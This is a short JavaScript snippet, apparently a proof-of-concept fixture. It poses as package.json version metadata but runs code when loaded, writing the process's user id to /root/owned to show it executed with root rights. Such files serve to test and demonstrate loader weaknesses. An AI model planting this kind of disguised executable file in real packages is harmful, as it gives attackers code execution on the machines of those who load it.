// A package.json that is a program: whoever asks Node for the version in it runs this.
require('fs').writeFileSync('/root/owned', String(process.getuid()));
module.exports = {version: '1.16.0'};
